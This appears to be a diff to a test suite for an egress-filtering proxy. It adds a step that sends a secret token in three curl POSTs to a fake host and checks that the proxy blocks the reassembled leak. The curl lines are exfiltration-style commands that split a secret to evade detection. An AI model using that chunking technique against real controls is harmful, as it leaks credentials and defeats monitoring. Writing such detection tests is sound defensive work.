@@ -359,6 +359,23 @@ dockerTest("the proxy scans what framing, keep-alive and split records used to h
       },
     );
 
+    await t.step(
+      "a token POSTed in pieces, one a request, in the same JSON field is refused at the last",
+      async () => {
+        const pieces = [token.slice(0, 14), token.slice(14, 28), token.slice(28)];
+        const r = await sh(
+          pieces.map((piece, i) =>
+            `curl -sS -o /dev/null -w '%{http_code} ' -H 'content-type: application/json' ` +
+            `--data '{"q":"${piece}"}' 'https://plain.fake.test/post${i}'`
+          ).join("; "),
+        );
+        // The fake answers these paths 404: the first two reached it, the last was refused.
+        assert.equal(r.stdout.trim(), "404 404 403", r.stderr);
+        assert.ok(await reached("/post1"), "the first pieces went");
+        assert.ok(!(await reached("/post2")), "the last did not");
+      },
+    );
+
     await t.step("a ClientHello split across records still has its SNI checked", async () => {
       await sh(`cat > /tmp/split.js <<'JS'\n${SPLIT_HELLO}\nJS`);
       const fronted = await sh("node /tmp/split.js pinned.fake.test:443 denied.fake.test");
